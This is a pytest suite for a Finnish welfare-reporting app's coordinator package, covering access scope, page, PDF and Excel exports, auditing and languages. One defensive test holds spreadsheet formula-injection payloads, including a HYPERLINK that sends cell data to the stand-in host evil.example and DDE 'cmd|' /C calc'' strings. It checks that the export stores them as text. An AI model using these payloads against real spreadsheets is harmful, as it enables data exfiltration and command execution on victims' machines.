"""The welfare coordinator's package: spans, published content only, scope, the page, PDF and Excel."""
from __future__ import annotations

import io
import re

import openpyxl
import pytest
import sqlalchemy as sa
from helpers import ROLES, assert_accessible_pdf, login
from pypdf import PdfReader
from welfare_fixtures import (  # noqa: F401
    H1_2026,
    H2_2025,
    LATER,
    at,
    coordinator,
    municipality,
    no_disclosure_threshold,
    publish,
    published,
)

from app import jobs
from app.codes import AuditAction, Nature, Phenomenon
from app.extensions import db
from app.models import AuditEntry, Theme
from app.workflow.cases.operations import perform
from app.workflow.cases.transitions import Action
from app.workflow.compilations.periods import Period
from app.workflow.core import permissions
from app.workflow.welfare import package as welfare_package
from app.workflow.welfare.package import InvalidSpan, Place, parse_span

pytestmark = pytest.mark.usefixtures("no_disclosure_threshold")


def test_spans():
    assert parse_span("2026-h1", 2025).periods == (H1_2026,)
    assert parse_span("2026", 2025).periods == (H1_2026, Period(2026, 2))
    term = parse_span("2025–2029", 2025)
    assert term.code == "2025-2029" and term.periods[0] == H2_2025 and term.periods[-1] == Period(2029, 1)
    assert len(term.periods) == 8 and term.label == "valtuustokausi 2025–2029"
    for text in ("2026-2030", "2025-2028", "2026-H3", "vuosi", "", "1999"):
        with pytest.raises(InvalidSpan):
            parse_span(text, 2025)


def test_coordinator_scope(app_ctx, published, org):
    kuopio, varkaus = municipality("Kuopio"), municipality("Varkaus")
    assert permissions.can_pull_welfare_package(published["kuopio"], kuopio)
    assert not permissions.can_pull_welfare_package(published["kuopio"], varkaus)
    assert not permissions.can_pull_welfare_package(published["kuopio"], None)
    assert permissions.can_pull_welfare_package(published["county"], None)
    assert permissions.can_pull_welfare_package(published["county"], varkaus)
    # the `org` coordinator has a county-wide role; nobody else pulls anything
    assert all(not permissions.pulls_welfare_content(org[r]) for r in ROLES if r != "coordinator")


def test_year_package_of_the_county_uses_the_published_half_and_names_the_missing_one(app_ctx, published):
    package = welfare_package.build_package(Place(None), parse_span("2026", 2025), None, now=LATER)
    assert package["published"] == ["2026-H1"]
    assert [(m["code"], m["state"]) for m in package["missing"]] == [("2026-H2", "draft")]
    assert package["totals"]["values"] == [4] and package["totals"]["previous"] == 1
    assert package["totals"]["change"] == 3
    figures = {f["key"]: {r["code"]: r for r in f["rows"]} for f in package["figures"]}
    assert figures["themes"]["housing"]["values"] == [2] and figures["themes"]["housing"]["previous"] == 1
    assert figures["national_phenomena"]["homelessness"]["total"] == 2
    assert [s["text"] for s in package["summaries"]] == ["Kevään yhteenveto: asuminen ja päihteet."]
    assert "LUONNOKSEN TEKSTI" not in str(package)
    highlight = next(h for h in package["highlights"] if h["excerpt"] == published["housing"].description)
    assert highlight["context"] == "Kuopio" and highlight["period_label"] == "1.1.–30.6.2026"
    for private in ("number", "date", "unit", "status", "forum", "proposed_actions"):
        assert private not in highlight  # an excerpt carries the group's text and coarse context only
    assert "Nuorille omat tukiasunnot." not in str(package)
    assert "Raili" not in str(package)


def test_a_municipality_sees_its_own_and_county_wide_reports_and_chosen_themes_only(app_ctx, published):
    span = parse_span("2026-H1", 2025)
    varkaus = welfare_package.build_package(Place(municipality("Varkaus")), span,
                                            [("substance_use_and_mental_health", "Päihteet ja mielenterveys")])
    assert varkaus["totals"]["values"] == [2]  # its own report and the county-wide one
    assert [t["code"] for t in varkaus["theme_texts"]] == ["substance_use_and_mental_health"]
    assert [h["excerpt"] for h in varkaus["highlights"]] == [published["varkaus"].description]
    themes = next(f for f in varkaus["figures"] if f["key"] == "themes")
    assert [r["code"] for r in themes["rows"]] == ["substance_use_and_mental_health"]
    kuopio_housing = welfare_package.build_package(Place(municipality("Kuopio")), span, [("housing", "Asuminen")])
    assert [h["excerpt"] for h in kuopio_housing["highlights"]] == [published["housing"].description]
    assert kuopio_housing["theme_texts"][0]["entries"][0]["count"] == 2


def test_term_package_has_every_published_half_side_by_side(app_ctx, published):
    package = welfare_package.build_package(Place(None), parse_span("2025-2029", 2025), None, now=LATER)
    assert package["published"] == ["2025-H2", "2026-H1"] and len(package["missing"]) == 6
    assert {m["state"] for m in package["missing"]} == {"draft", "not_ended"}
    assert package["totals"]["values"] == [1, 4] and package["totals"]["total"] == 5
    assert package["totals"]["slope"] == 3.0
    housing = next(t for t in package["theme_texts"] if t["code"] == "housing")
    assert [e["findings"] for e in housing["entries"]] == ["Vuokrat nousevat.", "Nuorten asunnottomuus kasvaa."]


def test_the_package_is_frozen_with_the_compilation(app_ctx, published, org, create_report):
    before = welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER)
    create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
                  description="Myöhemmin kirjattu raportti.", now=at(2026, 6, 1))
    perform(Action.RESOLVE, published["housing"], org["handler"], note="Ratkaistu.")
    db.session.commit()
    assert welfare_package.build_package(Place(None), parse_span("2026-H1", 2025), None, now=LATER) == before


@pytest.mark.parametrize("role", ROLES)
def test_the_page_is_for_coordinators_only(app, org, published, role):
    client = app.test_client()
    login(client, org[role].email)
    response = client.get("/welfare/")
    assert response.status_code == (200 if role == "coordinator" else 403), role
    menu = client.get("/guidance").get_data(as_text=True)
    assert ('href="/welfare/"' in menu) is (role == "coordinator"), role


def test_a_coordinator_gets_404_for_another_municipality(app, published):
    client = app.test_client()
    login(client, published["kuopio"].email)
    page = client.get("/welfare/").get_data(as_text=True)
    assert re.findall(r'<option[^>]*value="([^"]*)"', page)[0] == "297"  # only Kuopio to choose
    assert 'value="915"' not in page and 'value="county"' not in page
    for query in ("municipality=915", "municipality=county", "municipality=999", "municipality=915&span=2026-H1"):
        assert client.get(f"/welfare/?{query}").status_code == 404, query
        assert client.get(f"/welfare/aineisto.pdf?{query}").status_code == 404, query
    assert client.get("/welfare/?municipality=297&span=2026-H1").status_code == 200
    assert client.get("/welfare/national/2026-H1.json").status_code == 403


def test_the_page_has_a_copy_button_per_section_and_works_without_javascript(app, published):
    client = app.test_client()
    login(client, published["county"].email)
    response = client.get("/welfare/?municipality=county&span=2026&themes=housing")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "<script>" not in page and 'src="/static/js/copy.js"' in page
    targets = re.findall(r'<button type="button" class="button copy-button" data-copy="([^"]+)" data-copied="[^"]+" hidden>', page)
    assert targets == ["copy-source", "copy-figures", "copy-summaries", "copy-themes", "copy-highlights"]
    assert all(f'id="{target}"' in page for target in targets)
    assert "Nuorten asunnottomuus kasvaa." in page and "Jonot päihdepalveluihin." not in page
    assert "1.7.–31.12.2026: Työryhmän luonnos, ei vielä julkaistu" in page
    script = client.get("/static/js/copy.js")
    assert script.status_code == 200 and b"clipboard" in script.data
    script.close()


def test_bad_span_is_a_clear_message(app, published):
    client = app.test_client()
    login(client, published["county"].email)
    response = client.get("/welfare/?municipality=county&span=2026-2030")
    assert response.status_code == 400
    assert "Ajanjaksoa ”2026-2030” ei tunnisteta" in response.get_data(as_text=True)
    response = client.get("/welfare/?municipality=county&span=2026-H1&themes=nonexistent")
    assert response.status_code == 400 and "Tuntematon valinta" in response.get_data(as_text=True)


def test_pdf_and_excel_downloads_are_logged(app, published):
    client = app.test_client()
    login(client, published["kuopio"].email)
    asked = "/welfare/aineisto.pdf?municipality=297&span=2026&themes=housing"
    response = client.get(asked)
    assert response.status_code == 202 and response.headers["Refresh"] == "2"  # queued for the scheduler
    assert not db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORTED))
    assert jobs.render_files() >= 1  # this and the published compilations' PDFs
    response = client.get(asked)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert_accessible_pdf(response.data, "Sosiaalinen raportointi hyvinvointikertomukseen: Kuopio")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
    flat = " ".join(text.split())
    assert "Sosiaalinen raportointi hyvinvointikertomukseen" in flat and "Kuopio" in flat
    assert "Aineisto on vajaa" in flat and "1.7.–31.12.2026: työryhmän luonnos" in flat
    assert "Nuorten asunnottomuus kasvaa." in flat and "Raili" not in flat

    response = client.get("/welfare/aineisto.xlsx?municipality=297&span=2025-2029")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert {"Tiedot", "Raportteja", "Teemat", "Havainnot ja ehdotukset", "Otteet"} <= set(book.sheetnames)
    header = [cell.value for cell in book["Raportteja"][1]]
    assert header[:3] == ["Alue", "2025-H2", "2026-H1"]
    assert [cell.value for cell in book["Raportteja"][2]][:4] == ["Kuopio", 1, 3, 4]

    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORTED)
                                 .order_by(AuditEntry.id)).all()
    assert [(e.details["what"], e.details["format"], e.details["span"]) for e in entries] == [
        ("welfare_package", "pdf", "2026"), ("welfare_package", "xlsx", "2025-2029")]
    assert entries[0].details["themes"] == ["housing"] and entries[0].actor.email == "hyte.kuo@t.example"


def test_texts_that_a_spreadsheet_would_run_are_text_in_the_excel_file(app, org, create_user, create_report):
    """Anonymous reporters' proposals, excerpts, the group's texts and theme names reach the file as typed, as text."""
    link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
    hostile = {"description": link + " kuvaus", "proposed_actions": "@SUM(1+1)*cmd|' /C calc'!A0",
               "summary": "+cmd|' /C calc'!A0", "findings": "-2+3+cmd|' /C calc'!A0", "proposals": "=1+1",
               "theme": "@Asuminen"}
    housing = db.session.scalar(sa.select(Theme).where(Theme.code == "housing"))
    housing.label_fi = hostile["theme"]
    report = create_report(org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
                           themes=[housing], description=hostile["description"],
                           proposed_actions=hostile["proposed_actions"], now=at(2026, 2, 1))
    db.session.commit()
    publish(H1_2026, org, hostile["summary"], {"housing": (hostile["findings"], hostile["proposals"])}, [report.number])
    county = coordinator(create_user, "hyte.alue@t.example", None)

    client = app.test_client()
    login(client, county.email)
    response = client.get("/welfare/aineisto.xlsx?municipality=county&span=2026-H1")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for key, text in hostile.items():
        found = [value for value in texts if value.startswith(text)]
        if key == "proposed_actions":  # the report's own proposal is never published
            assert not found
            continue
        assert found and all(texts[value].data_type == "s" for value in found), key
    highlight = [cell.value for cell in book["Otteet"][2]]
    assert highlight[4].startswith(link)
    assert [cell.value for cell in book["Yhteenvedot"][2]] == ["2026-H1", hostile["summary"]]


def test_before_anything_is_published_the_page_says_so(app, org):
    client = app.test_client()
    login(client, org["coordinator"].email)
    page = client.get("/welfare/").get_data(as_text=True)
    assert "Julkaistuja koosteita ei vielä ole." in page and "copy-button" not in page
    options = re.findall(r'<option[^>]*value="([^"]*)"', page)
    assert options[:2] == ["county", "140"] and len(options) == 20  # the county first, then all 19 municipalities
    response = client.get("/welfare/?municipality=county&span=2025-H1")
    assert response.status_code == 200 and "Koostetta ei ole vielä tehty" in response.get_data(as_text=True)


@pytest.mark.parametrize(("language", "sheets", "area", "themes", "housing"), [
    ("fi", {"Tiedot", "Raportteja", "Teemat", "Havainnot ja ehdotukset", "Otteet"}, "Alue", "Teemat", "Asuminen"),
    ("sv", {"Uppgifter", "Rapporter", "Teman", "Iakttagelser och förslag", "Utdrag"}, "Område", "Teman", "Boende"),
    ("en", {"Details", "Reports", "Themes", "Findings and proposals", "Excerpts"}, "Area", "Themes", "Housing"),
])
def test_the_excel_package_is_in_the_readers_language(app, published, language, sheets, area, themes, housing):
    from helpers import csrf_token

    client = app.test_client()
    login(client, published["kuopio"].email)
    client.post("/language", data={"lang-csrf_token": csrf_token(client, "/"), "lang-language": language,
                                   "lang-next": "/"})
    response = client.get("/welfare/aineisto.xlsx?municipality=297&span=2025-2029")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith("-2025-2029.xlsx" if language == "fi"
                                                            else f"-2025-2029-{language}.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert sheets <= set(book.sheetnames)
    counts = book[book.sheetnames[1]]  # the reports per half-year
    assert [cell.value for cell in counts[1]][:3] == [area, "2025-H2", "2026-H1"]
    rows = list(book[themes].iter_rows(values_only=True))
    assert ("housing", housing) in [(r[0], r[1]) for r in rows[1:]]  # the stable code, named in the language
    # a language's file is asked for explicitly too, whatever the page's language
    asked = client.get("/welfare/aineisto.xlsx?municipality=297&span=2025-2029&lang=fi")
    assert "Tiedot" in openpyxl.load_workbook(io.BytesIO(asked.data)).sheetnames


@pytest.mark.parametrize(("language", "shown"), [
    ("sv", ['<h3>Teman</h3>', '<td>Boende</td>', '<td>Sociala problem</td>', '<td>Negativt fenomen</td>',
            '<td>Bostadslöshet</td>', '>Idensalmi</option>', '>Hela välfärdsområdet</option>',
            '<optgroup label="Halvår">', '<optgroup label="Fullmäktigeperioder">', '1.1.–30.6.2026: Publicerad ',
            '<strong>Sociala problem</strong> (1.1.–30.6.2026 · Kuopio) · Utkomst, Boende']),
    ("en", ['<h3>Themes</h3>', '<td>Housing</td>', '<td>Social problems</td>', '<td>Negative phenomenon</td>',
            '<td>Homelessness</td>', '>Entire wellbeing services county</option>', '<optgroup label="Council terms">',
            '>council term 2025–2029</option>', '1 Jan – 30 Jun 2026: Published ', '<h3>1 Jan – 30 Jun 2026</h3>']),
])
def test_the_page_names_its_categories_in_the_readers_language(app, published, language, shown):
    """The categories, places and half-years follow the reader; the working group's texts stay as written."""
    from helpers import csrf_token

    from app.workflow.compilations.languages import Names

    client = app.test_client()
    login(client, published["county"].email)
    client.post("/language", data={"lang-csrf_token": csrf_token(client, "/"), "lang-language": language,
                                   "lang-next": "/"})
    page = client.get("/welfare/?municipality=county&span=2025-2029").get_data(as_text=True)
    for text in shown:
        assert text in page, text
    with app.app_context():
        finnish, read = Names("fi"), Names(language)
    for key in (*welfare_package.FIGURE_KEYS, "municipalities"):
        for code, label in finnish.codes[key].items():
            if read.codes[key][code] != label:
                assert f">{label}<" not in page, (key, label)
    for title in finnish.titles.values():
        assert f"<h3>{title}</h3>" not in page, title
    assert "Julkaistu" not in page and "Puolivuotiskaudet" not in page and "Valtuustokaudet" not in page
    assert "Nuorten asunnottomuus kasvaa." in page and "Kevään yhteenveto: asuminen ja päihteet." in page


def test_the_pdf_package_is_in_the_readers_language(app, published):
    from helpers import csrf_token

    client = app.test_client()
    login(client, published["kuopio"].email)
    client.post("/language", data={"lang-csrf_token": csrf_token(client, "/"), "lang-language": "sv", "lang-next": "/"})
    asked = "/welfare/aineisto.pdf?municipality=297&span=2026&themes=housing"
    assert client.get(asked).status_code == 202
    assert jobs.render_files() >= 1
    response = client.get(asked)
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith("-297-2026-sv.pdf")
    reader = PdfReader(io.BytesIO(response.data))
    assert reader.trailer["/Root"]["/Lang"] == "sv"
    flat = " ".join("\n".join(page.extract_text() for page in reader.pages).split())
    assert "Social rapportering för välfärdsberättelsen" in flat and "Centrala siffror" in flat
    assert "Materialet är ofullständigt." in flat and "Boende" in flat
    assert "Aineisto on vajaa" not in flat and "Keskeiset luvut" not in flat
    assert "Nuorten asunnottomuus kasvaa." in flat  # the working group's text as written
